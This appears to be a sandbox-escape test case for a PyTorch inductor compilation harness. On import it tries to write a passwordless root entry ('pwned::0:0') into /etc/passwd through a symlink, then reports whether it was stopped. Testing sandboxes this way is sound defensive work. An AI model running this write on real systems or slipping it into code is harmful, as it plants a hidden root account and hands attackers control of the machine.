# target: torch-inductor
# description: hostile: writes through a symlink from its scratch to /etc/passwd
import os

import torch


def attempt():
    os.symlink("/etc/passwd", "passwd-link")
    with open("passwd-link", "a") as handle:
        handle.write("pwned::0:0::/:/bin/sh\n")
    return "WROTE /etc/passwd through a symlink"


try:
    RESULT = attempt()
except BaseException as error:  # what stopped it is the result
    RESULT = f"stopped: {type(error).__name__}: {error}"
print(f"HOSTILE RESULT: {RESULT}", flush=True)
raise RuntimeError("hostile program done")


class Model(torch.nn.Module):
    def forward(self, x):
        return x * 2


def make_inputs():
    return (torch.randn(2),)
